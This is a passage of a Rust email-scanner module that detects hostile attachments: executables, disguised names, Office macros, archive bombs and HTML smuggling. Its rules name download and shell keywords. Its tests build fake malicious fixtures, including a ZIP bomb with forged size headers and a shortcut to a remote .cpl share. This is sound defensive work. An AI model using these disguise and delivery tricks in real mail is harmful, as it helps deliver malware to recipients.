//! Attachment checks: what each attachment really is (by content, not by name),
//! what its name and Content-Type claim, what it carries inside (archives opened
//! in memory, Office macros, files embedded in documents, Outlook `.msg` and
//! `winmail.dat` attachments, files in a web page's data URIs) and what an
//! attached web page does. Every file found inside goes through the same checks.
//!
//! Standards: RFC 2045–2049 and RFC 2183/2231 (MIME parts and their file names,
//! decoded by `mail-parser`); the file-format specifications named in each
//! submodule (`magic`: signatures; `names`: Windows naming rules and Unicode
//! UAX #9; `archive`: ZIP, gzip, tar, MS-OXTNEF; `office`: MS-CFB, MS-OVBA, MS-XLS,
//! MS-OLEDS, MS-OXMSG, RTF, ECMA-376; `html`: the HTML Living Standard's forms and
//! attributes, RFC 2397 data URIs).
//!
//! Hostile input: every attachment byte and name, and everything inside archives
//! and documents. Archive sizes, counts and lengths stated in headers are never
//! believed: decompression goes through `take()` with what is still allowed and
//! stops one byte past it, which marks an archive bomb. The limits come from
//! `[scan.attachments]`: `max_depth` (containers opened inside containers),
//! `max_expanded_bytes` (bytes decompressed for one message, all archives
//! together), `max_ratio` (bytes one archive may expand to per byte of its own,
//! with a floor of 4 MiB so that small archives of repetitive text pass),
//! `max_entries` (files inside containers for one message). At most
//! [`MAX_ATTACHMENTS`] attachments and [`MAX_MESSAGE_DEPTH`] levels of attached
//! messages are looked at. Nothing is written to disk and nothing is executed.
//! A message without attachments costs one length check; an attachment that is
//! not a container costs a few signature comparisons.
//!
//! Every symbol fires at most once per message; its detail names up to five files
//! (`outer.zip/inner/setup.exe`, names escaped so that control characters show as
//! `<U+202E>`) with the evidence, and how many more there were.
//!
//! | Symbol | Score | Category | Fires when |
//! | --- | --- | --- | --- |
//! | `ATTACH_EXECUTABLE` | 8 | malware | a native program by content: PE/MZ, ELF or Mach-O, attached or inside an archive or document |
//! | `ATTACH_DISGUISED_TYPE` | 8 | malware | executable or dangerous content (program, LNK, disk image, CHM) named as a document, image or media (`.pdf`, `.jpg`, ...) or, with no telling extension, declared with such a Content-Type |
//! | `ATTACH_DANGEROUS_TYPE` | 8 | policy | a type Windows runs, installs or mounts, by extension (`exe scr com pif bat cmd js jse vbs vbe wsf wsh hta ps1 msi jar lnk iso img vhd vhdx reg cpl chm dll xll`, ClickOnce and app packages, ...: see `names`) or by content (LNK, ISO/UDF, VHD/VHDX, CHM, MSI, JAR, HTA, an Internet shortcut `.url` pointing at a file share or a non-web scheme, a OneNote section carrying a file that is not a picture); not when `ATTACH_EXECUTABLE` or `ATTACH_BLOCKED_EXT` already covers that file |
//! | `ATTACH_BLOCKED_EXT` | 10 | policy | an extension listed in `blocked_extensions` |
//! | `ATTACH_DOUBLE_EXT` | 7 | malware | a dangerous or blocked extension behind a document one (`invoice.pdf.exe`) or behind padding white space (`invoice.pdf       .exe`) |
//! | `ATTACH_BIDI_NAME` | 8 | malware | a name holding bidirectional embedding, override or isolate controls (U+202A–U+202E, U+2066–U+2069), the right-to-left override trick that shows `invoice_exe.pdf` for `invoice_<U+202E>fdp.exe` |
//! | `ATTACH_OFFICE_MACRO` | 4 | malware | a VBA project: a `VBA` storage in an OLE document, or `vbaProject.bin` in an OOXML one (docm, xlsm, pptm) |
//! | `ATTACH_MACRO_AUTOEXEC` | 2 | malware | the VBA source has a procedure Office runs by itself (AutoOpen, Document_Open, Workbook_Open, ...) |
//! | `ATTACH_MACRO_SUSPICIOUS` | 4 | malware | the VBA source starts programs, loads code or downloads (Shell, WScript.Shell, URLDownloadToFile, PowerShell, XMLHTTP, ...) |
//! | `ATTACH_XLM_MACRO` | 8 | malware | an Excel 4.0 macro sheet: BIFF8 BoundSheet of macro type (with its visibility) or `xl/macrosheets/` in OOXML |
//! | `ATTACH_OFFICE_EXTERNAL` | 6 | malware | an OOXML relationship loading a template, OLE object, frame or subdocument from the web as the document opens (template injection, "Follina") |
//! | `ATTACH_EQUATION_OBJECT` | 4 | malware | an Equation Editor 3.0 object (RTF `\\objdata` of class `Equation.*`, or an `Equation Native` stream): Office dropped the component in 2018 after CVE-2017-11882, and such objects now mostly carry that exploit; old documents with real equations have them too, hence the modest score |
//! | `ATTACH_ENCRYPTED` | 3 | malware | encrypted ZIP entries, or a password-protected Office document or workbook: content no scanner can see (entry names are still checked) |
//! | `ATTACH_ARCHIVE_BOMB` | 10 | malware | an archive declaring or really expanding past `max_expanded_bytes` or `max_ratio` times its size (over the 4 MiB floor), or holding more than `max_entries` files |
//! | `ATTACH_ARCHIVE_TOO_DEEP` | 4 | malware | a container nested deeper than `max_depth`, left unopened |
//! | `ATTACH_UNINSPECTABLE` | 1 | policy | a container the scanner cannot open: RAR, 7z, bzip2, xz, zstd, cab, ARJ, SZDD, cpio; a damaged ZIP; ZIP entries with an unsupported compression method or sharing one name |
//! | `ATTACH_HTML_CREDENTIALS` | 8 | phishing | an HTML or SVG attachment with a password field, in markup or created by script |
//! | `ATTACH_HTML_FOREIGN_FORM` | 4 | phishing | an HTML attachment with a form posting to an absolute URL (a local file has no site of its own) |
//! | `ATTACH_HTML_REDIRECT` | 3 | phishing | an HTML attachment that sends the browser elsewhere on open (meta refresh, script location change) or decodes and runs hidden script (`eval(atob(...))`) |
//! | `ATTACH_HTML_SMUGGLING` | 8 | malware | an HTML attachment that assembles a file from embedded data and saves it (Blob + decode + download, `msSaveOrOpenBlob`, a `data:application/...` download link); the files in such data URIs are themselves inspected |
//! | `ATTACH_SVG_SCRIPT` | 5 | phishing | an SVG image with a script, `javascript:` URL or event handler |
//!
//! For the clamd step, [`attachments`] gives every attachment's decoded bytes.

mod archive;
mod html;
mod inspect;
mod magic;
mod names;
mod office;

use super::View;
use crate::{Category, Finding};
use inspect::{FileRef, Inspector};
use mail_parser::{Message, MimeHeaders};

/// Attachments looked at per message.
pub(crate) const MAX_ATTACHMENTS: usize = 1000;
/// Levels of attached messages (message/rfc822) whose attachments are looked at.
pub(crate) const MAX_MESSAGE_DEPTH: u32 = 8;

/// One attachment as the message carries it.
#[derive(Debug, Clone)]
pub(crate) struct Attachment<'a> {
    /// The file name from Content-Disposition or Content-Type, decoded.
    pub name: Option<&'a str>,
    /// The declared `type/subtype`, lower case.
    pub content_type: Option<String>,
    /// The decoded bytes (transfer encoding undone).
    pub data: &'a [u8],
    /// Shown to the reader as a file: it has a name or `Content-Disposition:
    /// attachment` (an unnamed inline text part is really more body).
    pub as_file: bool,
}

/// Every attachment of a message with its decoded bytes, attached messages'
/// attachments included (in order, at most [`MAX_ATTACHMENTS`], attached messages
/// followed [`MAX_MESSAGE_DEPTH`] deep). The clamd step streams each of these.
pub(crate) fn attachments<'a>(message: &'a Message<'a>) -> Vec<Attachment<'a>> {
    let mut out = Vec::new();
    collect(message, 0, &mut out);
    out
}

fn collect<'a>(message: &'a Message<'a>, depth: u32, out: &mut Vec<Attachment<'a>>) {
    for part in message.attachments() {
        if out.len() >= MAX_ATTACHMENTS {
            return;
        }
        if let Some(inner) = part.message() {
            if depth < MAX_MESSAGE_DEPTH {
                collect(inner, depth + 1, out);
            }
            continue;
        }
        let content_type = part.content_type().map(|ct| {
            let sub = ct.c_subtype.as_deref().unwrap_or("");
            format!("{}/{}", ct.c_type, sub).to_ascii_lowercase()
        });
        let name = part.attachment_name();
        let by_disposition = part
            .content_disposition()
            .is_some_and(|d| d.c_type.eq_ignore_ascii_case("attachment"));
        out.push(Attachment {
            name,
            content_type,
            data: part.contents(),
            as_file: name.is_some() || by_disposition,
        });
    }
}

/// The attachment symbols, in the order their findings are reported.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Sym {
    Executable,
    DisguisedType,
    DangerousType,
    BlockedExt,
    DoubleExt,
    BidiName,
    OfficeMacro,
    MacroAutoexec,
    MacroSuspicious,
    XlmMacro,
    OfficeExternal,
    EquationObject,
    Encrypted,
    ArchiveBomb,
    ArchiveTooDeep,
    Uninspectable,
    HtmlCredentials,
    HtmlForeignForm,
    HtmlRedirect,
    HtmlSmuggling,
    SvgScript,
}

impl Sym {
    pub fn name(self) -> &'static str {
        match self {
            Sym::Executable => "ATTACH_EXECUTABLE",
            Sym::DisguisedType => "ATTACH_DISGUISED_TYPE",
            Sym::DangerousType => "ATTACH_DANGEROUS_TYPE",
            Sym::BlockedExt => "ATTACH_BLOCKED_EXT",
            Sym::DoubleExt => "ATTACH_DOUBLE_EXT",
            Sym::BidiName => "ATTACH_BIDI_NAME",
            Sym::OfficeMacro => "ATTACH_OFFICE_MACRO",
            Sym::MacroAutoexec => "ATTACH_MACRO_AUTOEXEC",
            Sym::MacroSuspicious => "ATTACH_MACRO_SUSPICIOUS",
            Sym::XlmMacro => "ATTACH_XLM_MACRO",
            Sym::OfficeExternal => "ATTACH_OFFICE_EXTERNAL",
            Sym::EquationObject => "ATTACH_EQUATION_OBJECT",
            Sym::Encrypted => "ATTACH_ENCRYPTED",
            Sym::ArchiveBomb => "ATTACH_ARCHIVE_BOMB",
            Sym::ArchiveTooDeep => "ATTACH_ARCHIVE_TOO_DEEP",
            Sym::Uninspectable => "ATTACH_UNINSPECTABLE",
            Sym::HtmlCredentials => "ATTACH_HTML_CREDENTIALS",
            Sym::HtmlForeignForm => "ATTACH_HTML_FOREIGN_FORM",
            Sym::HtmlRedirect => "ATTACH_HTML_REDIRECT",
            Sym::HtmlSmuggling => "ATTACH_HTML_SMUGGLING",
            Sym::SvgScript => "ATTACH_SVG_SCRIPT",
        }
    }

    pub fn score(self) -> f64 {
        match self {
            Sym::Executable | Sym::DisguisedType | Sym::DangerousType | Sym::BidiName => 8.0,
            Sym::XlmMacro | Sym::HtmlCredentials | Sym::HtmlSmuggling => 8.0,
            Sym::BlockedExt | Sym::ArchiveBomb => 10.0,
            Sym::DoubleExt => 7.0,
            Sym::OfficeExternal => 6.0,
            Sym::SvgScript => 5.0,
            Sym::OfficeMacro | Sym::MacroSuspicious | Sym::ArchiveTooDeep => 4.0,
            Sym::EquationObject => 4.0,
            Sym::HtmlForeignForm => 4.0,
            Sym::Encrypted | Sym::HtmlRedirect => 3.0,
            Sym::MacroAutoexec => 2.0,
            Sym::Uninspectable => 1.0,
        }
    }

    pub fn category(self) -> Category {
        match self {
            Sym::DangerousType | Sym::BlockedExt | Sym::Uninspectable => Category::Policy,
            Sym::HtmlCredentials | Sym::HtmlForeignForm | Sym::HtmlRedirect | Sym::SvgScript => {
                Category::Phishing
            }
            _ => Category::Malware,
        }
    }

    /// What the symbol means, opening its detail.
    pub fn summary(self) -> &'static str {
        match self {
            Sym::Executable => "program attached",
            Sym::DisguisedType => "executable content under a harmless name or type",
            Sym::DangerousType => "file type that Windows runs, installs or mounts",
            Sym::BlockedExt => "file type blocked by policy",
            Sym::DoubleExt => "name hides its real extension",
            Sym::BidiName => "name reversed by bidirectional control characters",
            Sym::OfficeMacro => "Office document with VBA macros",
            Sym::MacroAutoexec => "macro runs by itself when the document opens",
            Sym::MacroSuspicious => "macro starts programs, loads code or downloads",
            Sym::XlmMacro => "Excel 4.0 macro sheet",
            Sym::OfficeExternal => "document loads content from the web when opened",
            Sym::EquationObject => "Equation Editor 3.0 object (the CVE-2017-11882 carrier)",
            Sym::Encrypted => "encrypted content no scanner can see",
            Sym::ArchiveBomb => "archive bomb",
            Sym::ArchiveTooDeep => "containers nested deeper than max_depth were not opened",
            Sym::Uninspectable => "container the scanner cannot open",
            Sym::HtmlCredentials => "attached web page asks for a password",
            Sym::HtmlForeignForm => "attached web page posts a form to a remote site",
            Sym::HtmlRedirect => "attached web page redirects or runs hidden script on open",
            Sym::HtmlSmuggling => "attached web page assembles and saves a file (HTML smuggling)",
            Sym::SvgScript => "SVG image with script",
        }
    }
}

pub(crate) fn check(view: &View<'_>) -> Vec<Finding> {
    let Some(message) = view.parsed else {
        return Vec::new();
    };
    // The common case: nothing attached, nothing to do.
    if message.attachment_count() == 0 {
        return Vec::new();
    }
    let list = attachments(message);
    let mut inspector = Inspector::new(&view.config.attachments);
    for (i, a) in list.iter().enumerate() {
        let path = match a.name {
            Some(n) => names::shown(n),
            None => format!(
                "attachment {} ({})",
                i + 1,
                a.content_type.as_deref().unwrap_or("no type")
            ),
        };
        // Limits that stopped one attachment's archive do not hide the next
        // attachment; the message-wide byte and entry budgets still hold.
        inspector.stopped = false;
        inspector.inspect(&FileRef {
            path,
            name: a.name,
            declared: a.content_type.as_deref(),
            data: a.data,
            complete: true,
            level: 0,
            vba_known: false,
            as_file: a.as_file,
        });
    }
    inspector.findings()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Action, Envelope, ScanConfig, Scanner};
    use std::io::{Cursor, Write};

    // ---- building test messages and files ----

    fn base64(data: &[u8]) -> String {
        const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for (i, chunk) in data.chunks(3).enumerate() {
            if i > 0 && i % 19 == 0 {
                out.push_str("\r\n");
            }
            let b = [
                chunk[0],
                *chunk.get(1).unwrap_or(&0),
                *chunk.get(2).unwrap_or(&0),
            ];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for j in 0..4 {
                if j <= chunk.len() {
                    out.push(ABC[(n >> (18 - 6 * j) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    /// One MIME part: Content-Type value, Content-Disposition value, bytes.
    struct Part<'a>(&'a str, String, &'a [u8]);

    fn att<'a>(name: &str, content_type: &'a str, data: &'a [u8]) -> Part<'a> {
        Part(
            content_type,
            format!("attachment; filename=\"{name}\""),
            data,
        )
    }

    /// A multipart/mixed message: a text body, then each part in base64.
    fn message(parts: &[Part<'_>]) -> Vec<u8> {
        let mut m = String::from(
            "From: Alice <alice@example.com>\r\nTo: bob@example.org\r\n\
             Subject: the files\r\nDate: Mon, 3 Jun 2024 10:00:00 +0000\r\n\
             Message-ID: <t1@example.com>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
             --b1\r\nContent-Type: text/plain\r\n\r\nHere are the files.\r\n",
        );
        for Part(ct, disposition, data) in parts {
            m.push_str(&format!(
                "--b1\r\nContent-Type: {ct}\r\nContent-Disposition: {disposition}\r\n\
                 Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
                base64(data)
            ));
        }
        m.push_str("--b1--\r\n");
        m.into_bytes()
    }

    fn findings_with(raw: &[u8], config: &ScanConfig) -> Vec<Finding> {
        let parsed = mail_parser::MessageParser::default().parse(raw);
        let envelope = Envelope::default();
        let view = View {
            raw,
            parsed: parsed.as_ref(),
            envelope: &envelope,
            config,
        };
        check(&view)
    }

    fn findings(raw: &[u8]) -> Vec<Finding> {
        findings_with(raw, &ScanConfig::default())
    }

    fn symbols(found: &[Finding]) -> Vec<&str> {
        found.iter().map(|f| f.name.as_ref()).collect()
    }

    fn detail<'f>(found: &'f [Finding], name: &str) -> &'f str {
        found
            .iter()
            .find(|f| f.name == name)
            .map(|f| f.detail.as_str())
            .unwrap_or_else(|| panic!("{name} not in {:?}", symbols(found)))
    }

    fn pe() -> Vec<u8> {
        let mut v = vec![0u8; 0x200];
        v[..2].copy_from_slice(b"MZ");
        v[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        v[0x80..0x84].copy_from_slice(b"PE\0\0");
        v[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes());
        v
    }

    fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, data) in files {
            w.start_file(*name, options).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    /// Offsets of every occurrence of a record signature.
    fn records(zip: &[u8], sig: &[u8]) -> Vec<usize> {
        memchr::memmem::find_iter(zip, sig).collect()
    }

    fn pdf() -> Vec<u8> {
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
            .to_vec()
    }

    fn jpeg() -> Vec<u8> {
        let mut v =
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00".to_vec();
        v.extend_from_slice(&[0x42; 300]);
        v.extend_from_slice(b"\xff\xd9");
        v
    }

    fn docx(extra: &[(&str, &[u8])]) -> Vec<u8> {
        let mut files: Vec<(&str, &[u8])> = vec![
            ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
            ("_rels/.rels", b"<?xml version=\"1.0\"?><Relationships xmlns=\"x\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
            ("word/document.xml", b"<?xml version=\"1.0\"?><w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>"),
            ("word/_rels/document.xml.rels", b"<Relationships><Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://example.com/\" TargetMode=\"External\"/></Relationships>"),
            ("word/media/image1.jpeg", b"\xff\xd8\xff\xe0 jpeg"),
        ];
        files.extend_from_slice(extra);
        zip_of(&files)
    }

    /// MS-OVBA compression using literal tokens only (valid, if not small).
    fn ovba(source: &[u8]) -> Vec<u8> {
        let mut out = vec![0x01];
        for piece in source.chunks(3640) {
            let mut chunk = Vec::new();
            for group in piece.chunks(8) {
                chunk.push(0x00);
                chunk.extend_from_slice(group);
            }
            let header = 0xb000u16 | (chunk.len() as u16 + 2 - 3);
            out.extend_from_slice(&header.to_le_bytes());
            out.extend_from_slice(&chunk);
        }
        out
    }

    fn ole(streams: &[(&str, &[u8])]) -> Vec<u8> {
        let mut comp = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        for (path, data) in streams {
            let parent = std::path::Path::new(path).parent().unwrap();
            comp.create_storage_all(parent).unwrap();
            comp.create_stream(path).unwrap().write_all(data).unwrap();
        }
        comp.into_inner().into_inner()
    }

    fn biff(records: &[(u16, &[u8])]) -> Vec<u8> {
        let mut v = Vec::new();
        for (kind, body) in records {
            v.extend_from_slice(&kind.to_le_bytes());
            v.extend_from_slice(&(body.len() as u16).to_le_bytes());
            v.extend_from_slice(body);
        }
        v
    }

    fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        for (name, data) in files {
            let mut h = vec![0u8; 512];
            h[..name.len()].copy_from_slice(name.as_bytes());
            h[100..108].copy_from_slice(b"0000644\0");
            h[124..136].copy_from_slice(format!("{:011o}\0", data.len()).as_bytes());
            h[156] = b'0';
            h[257..263].copy_from_slice(b"ustar\0");
            h[148..156].copy_from_slice(b"        ");
            let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
            h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
            out.extend_from_slice(&h);
            out.extend_from_slice(data);
            out.resize(out.len().div_ceil(512) * 512, 0);
        }
        out.extend_from_slice(&[0; 1024]);
        out
    }

    // ---- the quiet cases ----

    #[test]
    fn a_message_without_attachments_has_no_findings() {
        let raw = b"From: a@example.com\r\nSubject: hi\r\n\r\nJust text, no MZ here.\r\n";
        assert!(findings(raw).is_empty());
        assert!(attachments(&mail_parser::MessageParser::default().parse(raw).unwrap()).is_empty());
    }

    #[test]
    fn ordinary_documents_and_images_fire_nothing() {
        let csv = b"name,amount\nwidget,3\n";
        let raw = message(&[
            att("report.pdf", "application/pdf", &pdf()),
            att("photo.jpg", "image/jpeg", &jpeg()),
            att(
                "letter.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                &docx(&[]),
            ),
            att("figures.csv", "text/csv", csv),
            att(
                "photos.zip",
                "application/zip",
                &zip_of(&[("a.jpg", &jpeg()), ("b.pdf", &pdf())]),
            ),
            att(
                "notes.tar.gz",
                "application/gzip",
                &gzip(&tar_of(&[("notes.txt", b"hello\n")])),
            ),
        ]);
        let found = findings(&raw);
        assert!(found.is_empty(), "{found:?}");
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    // ---- types and names ----

    #[test]
    fn a_program_is_flagged_once_by_content_and_quarantined() {
        let raw = message(&[att("setup.exe", "application/octet-stream", &pe())]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("setup.exe (Windows PE executable)"));
        let v = Scanner::default().scan(&raw, &Envelope::default());
        assert!(v.action >= Action::Quarantine, "{v:?}");
        assert_eq!(v.category, crate::Category::Malware);
    }

    #[test]
    fn a_program_disguised_as_a_pdf_is_rejected() {
        let raw = message(&[att("invoice.pdf", "application/pdf", &pe())]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            ["ATTACH_EXECUTABLE", "ATTACH_DISGUISED_TYPE"]
        );
        assert!(detail(&found, "ATTACH_DISGUISED_TYPE").contains("named .pdf"));
        let v = Scanner::default().scan(&raw, &Envelope::default());
        assert_eq!(v.action, Action::Reject, "{v:?}");
        // With no telling name, the declared type is the claim.
        let raw = message(&[att("scan", "image/jpeg", &pe())]);
        let found = findings(&raw);
        assert!(detail(&found, "ATTACH_DISGUISED_TYPE").contains("declared as image/jpeg"));
    }

    #[test]
    fn double_extensions_plain_and_padded() {
        let raw = message(&[att("invoice.pdf.exe", "application/octet-stream", &pe())]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE", "ATTACH_DOUBLE_EXT"]);
        assert!(detail(&found, "ATTACH_DOUBLE_EXT").contains(".pdf before .exe"));
        let total: f64 = found.iter().map(|f| f.default_score).sum();
        assert!(total >= 15.0);

        let padded = format!("statement.pdf{}.js", " ".repeat(40));
        let raw = message(&[att(&padded, "text/plain", b"WScript.Echo('x');")]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            ["ATTACH_DANGEROUS_TYPE", "ATTACH_DOUBLE_EXT"]
        );
        assert!(detail(&found, "ATTACH_DANGEROUS_TYPE").contains(".js: JScript"));
    }

    #[test]
    fn a_right_to_left_override_name_is_shown_escaped() {
        // "invoice_<RLO>fdp.exe" displays as "invoice_exe.pdf".
        let raw = message(&[Part(
            "application/octet-stream",
            "attachment; filename*=UTF-8''invoice_%E2%80%AEfdp.exe".to_string(),
            &pe(),
        )]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE", "ATTACH_BIDI_NAME"]);
        let d = detail(&found, "ATTACH_BIDI_NAME");
        assert!(
            d.contains("invoice_<U+202E>fdp.exe") && d.contains("really ends in .exe"),
            "{d}"
        );
        assert!(!d.contains('\u{202e}'));
    }

    #[test]
    fn dangerous_types_by_name_and_by_content() {
        let mut lnk = vec![
            0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
        ];
        lnk.extend_from_slice(&[0; 60]);
        let raw = message(&[
            att("run.vbs", "text/plain", b"MsgBox 1"),
            att("document.pdf", "application/pdf", &lnk),
        ]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            ["ATTACH_DISGUISED_TYPE", "ATTACH_DANGEROUS_TYPE"]
        );
        let d = detail(&found, "ATTACH_DANGEROUS_TYPE");
        assert!(
            d.contains("run.vbs (.vbs: VBScript)")
                && d.contains("document.pdf (Windows shortcut (LNK))"),
            "{d}"
        );
    }

    #[test]
    fn internet_shortcuts_count_only_when_they_point_off_the_web() {
        let web = b"[InternetShortcut]\r\nURL=http://www.example.edu/page.html\r\n";
        let raw = message(&[att("Reading.url", "application/octet-stream", web)]);
        assert!(findings(&raw).is_empty());
        let share = b"[InternetShortcut]\r\nURL=file://203.0.113.9/share/invoice.cpl\r\n";
        let raw = message(&[att("Invoice.url", "application/octet-stream", share)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_DANGEROUS_TYPE"]);
        assert!(detail(&found, "ATTACH_DANGEROUS_TYPE")
            .contains("file://203.0.113.9/share/invoice.cpl"));
        let icon = b"[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.9\\i.ico\r\n";
        let raw = message(&[att("Link.url", "application/octet-stream", icon)]);
        assert_eq!(symbols(&findings(&raw)), ["ATTACH_DANGEROUS_TYPE"]);
    }

    #[test]
    fn a_shell_script_is_just_text_to_windows() {
        let raw = message(&[att("rotate", "text/plain", b"#!/bin/sh\nmv log log.1\n")]);
        assert!(findings(&raw).is_empty());
    }

    #[test]
    fn blocked_extensions_come_from_configuration() {
        let raw = message(&[att(
            "tool.exe",
            "application/octet-stream",
            b"not a real program",
        )]);
        assert_eq!(symbols(&findings(&raw)), ["ATTACH_DANGEROUS_TYPE"]);
        let mut config = ScanConfig::default();
        config.attachments.blocked_extensions = vec![".EXE".into(), "xlsx".into()];
        let found = findings_with(&raw, &config);
        assert_eq!(symbols(&found), ["ATTACH_BLOCKED_EXT"]);
        assert!(detail(&found, "ATTACH_BLOCKED_EXT").contains(".exe is blocked by policy"));
        let raw = message(&[att("q3.xlsx", "application/octet-stream", b"PK")]);
        assert_eq!(
            symbols(&findings_with(&raw, &config)),
            ["ATTACH_BLOCKED_EXT"]
        );
    }

    // ---- archives ----

    #[test]
    fn programs_inside_archives_are_found_with_their_path() {
        let inner = zip_of(&[("readme.txt", b"hi"), ("setup.exe", &pe())]);
        let raw = message(&[att("files.zip", "application/zip", &inner)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("files.zip/setup.exe"));

        let tgz = gzip(&tar_of(&[("docs/a.txt", b"a"), ("docs/run.exe", &pe())]));
        let raw = message(&[att("docs.tgz", "application/gzip", &tgz)]);
        let found = findings(&raw);
        assert!(detail(&found, "ATTACH_EXECUTABLE").contains("docs.tgz/docs.tar/docs/run.exe"));
    }

    #[test]
    fn an_encrypted_zip_is_flagged_and_its_names_still_checked() {
        let mut z = zip_of(&[("invoice.exe", b"secret bytes")]);
        for at in records(&z, b"PK\x03\x04") {
            z[at + 6] |= 1;
        }
        for at in records(&z, b"PK\x01\x02") {
            z[at + 8] |= 1;
        }
        let raw = message(&[att("invoice.zip", "application/zip", &z)]);
        let found = findings(&raw);
        assert_eq!(
            symbols(&found),
            ["ATTACH_DANGEROUS_TYPE", "ATTACH_ENCRYPTED"]
        );
        assert!(detail(&found, "ATTACH_ENCRYPTED").contains("invoice.zip (encrypted ZIP entries)"));
        assert!(detail(&found, "ATTACH_DANGEROUS_TYPE").contains("invoice.zip/invoice.exe"));
    }

    #[test]
    fn nesting_deeper_than_max_depth_is_reported_and_not_opened() {
        let mut z = zip_of(&[("payload.exe", &pe())]);
        for level in 0..3 {
            z = zip_of(&[(&format!("level{level}.zip"), &z)]);
        }
        // Four archives deep: the default max_depth of 3 leaves the last unopened.
        let raw = message(&[att("outer.zip", "application/zip", &z)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_ARCHIVE_TOO_DEEP"]);
        assert!(detail(&found, "ATTACH_ARCHIVE_TOO_DEEP").contains(
            "outer.zip/level2.zip/level1.zip/level0.zip (ZIP archive at nesting level 4)"
        ));
        let mut config = ScanConfig::default();
        config.attachments.max_depth = 4;
        let found = findings_with(&raw, &config);
        assert_eq!(symbols(&found), ["ATTACH_EXECUTABLE"]);
        config.attachments.max_depth = 0;
        assert_eq!(
            symbols(&findings_with(&raw, &config)),
            ["ATTACH_ARCHIVE_TOO_DEEP"]
        );
    }

    #[test]
    fn a_zip_bomb_is_caught_by_what_it_declares_and_by_what_it_does() {
        let zeros = vec![0u8; 6 * 1024 * 1024];
        let honest = zip_of(&[("zeros.bin", &zeros)]);
        assert!(honest.len() < 64 * 1024);
        let raw = message(&[att("data.zip", "application/zip", &honest)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_ARCHIVE_BOMB"]);
        assert!(detail(&found, "ATTACH_ARCHIVE_BOMB").contains("declares 6291456 bytes"));

        // The same archive lying about its size is caught as it expands.
        let mut lying = honest.clone();
        for at in records(&lying, b"PK\x03\x04") {
            lying[at + 22..at + 26].copy_from_slice(&1000u32.to_le_bytes());
        }
        for at in records(&lying, b"PK\x01\x02") {
            lying[at + 24..at + 28].copy_from_slice(&1000u32.to_le_bytes());
        }
        let raw = message(&[att("data.zip", "application/zip", &lying)]);
        let found = findings(&raw);
        assert_eq!(symbols(&found), ["ATTACH_ARCHIVE_BOMB"]);
        assert!(detail(&found, "ATTACH_ARCHIVE_BOMB").contains("expands more than max_ratio (100)"));

        // The message-wide byte budget, and the entry count.
        let mut config = ScanConfig::default();
        config.attachments.max_expanded_bytes = 100_000;
        let z = zip_of(&[("a.txt", &[b'a'; 60_000]), ("b.txt", &[b'b'; 60_000])]);
        let raw = message(&[att("two.zip", "application/zip", &z)]);
        let found = findings_with(&raw, &config);
        assert!(detail(&found, "ATTACH_ARCHIVE_BOMB").contains("max_expanded_bytes (100000"));
        config.attachments.max_expanded_bytes = 1 << 30;
        config.attachments.max_entries = 5;
        let many: Vec<(String, Vec<u8>)> =
            (0..8).map(|i| (format!("f{i}.txt"), vec![b'x'])).collect();
        let refs: Vec<(&str, &[u8])> = many
            .iter()
